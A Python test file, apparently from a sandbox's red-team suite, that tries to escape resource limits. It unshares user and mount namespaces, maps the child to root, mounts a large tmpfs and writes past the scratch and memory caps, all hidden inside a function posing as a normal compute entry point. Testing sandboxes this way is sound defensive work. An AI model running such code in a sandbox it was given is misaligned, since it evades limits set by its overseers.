"""Attack: a child unshares a user and mount namespace and mounts a tmpfs of its own.

In a new user namespace the child holds every capability over the namespaces it owns,
so it may mount a tmpfs of any size, past the sandbox's 256 MiB scratch cap (and, with
no memory cgroup, past every memory limit: tmpfs pages are in no process's address
space). Bounded: writes WRITE bytes (3x the scratch cap), then exits.
Expected: unshare is refused (the runner's seccomp filter, sandbox/nonesting.py).
"""

import ctypes
import os
import tempfile

import numpy as np

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
WRITE = 768 << 20
CHUNK = b"\x01" * (48 << 20)


def _child(ready: int, mapped: int) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        print(f"BLOCKED: unshare refused: {os.strerror(ctypes.get_errno())}", flush=True)
        return 0
    os.write(ready, b"1")
    os.read(mapped, 1)  # the parent maps our uid to root in the new namespace
    target = tempfile.mkdtemp()
    if libc.mount(b"none", target.encode(), b"tmpfs", 0, b"size=2g") != 0:
        print(f"BLOCKED: mount refused: {os.strerror(ctypes.get_errno())}", flush=True)
        return 0
    written = 0
    while written < WRITE:  # files of 48 MiB: the runner's RLIMIT_FSIZE (64 MiB) is per file
        with open(os.path.join(target, f"big{written}"), "wb") as handle:
            handle.write(CHUNK)
        written += len(CHUNK)
    print(f"ESCAPED: wrote {written >> 20} MiB to a tmpfs mounted in a nested namespace", flush=True)
    return 0


def _map_root(pid: int) -> None:
    """From outside the new namespace (as its owner), map our own uid and gid to its root."""
    uid, gid = os.getuid(), os.getgid()
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/{pid}/{name}", "w") as handle:
            handle.write(text)


def se_block_forward(seed, x, reduction):
    # A process that changed uid (the runner, under bwrap as root) is not dumpable, and
    # its /proc files then belong to root: undo that, for the child to inherit.
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    ready_r, ready_w = os.pipe()
    mapped_r, mapped_w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            code = _child(ready_w, mapped_r)
        except BaseException as exc:  # noqa: BLE001 - report, never run the parent's code
            print(f"BLOCKED: {type(exc).__name__}: {exc}", flush=True)
            code = 0
        os._exit(code)
    os.close(ready_w)
    if os.read(ready_r, 1):
        try:
            _map_root(pid)
        except OSError as exc:
            print(f"could not map the nested namespace's ids: {exc}", flush=True)
    os.write(mapped_w, b"1")
    os.waitpid(pid, 0)
    for fd in (ready_r, mapped_r, mapped_w):
        os.close(fd)
    return np.zeros(np.asarray(x).size, np.float32)
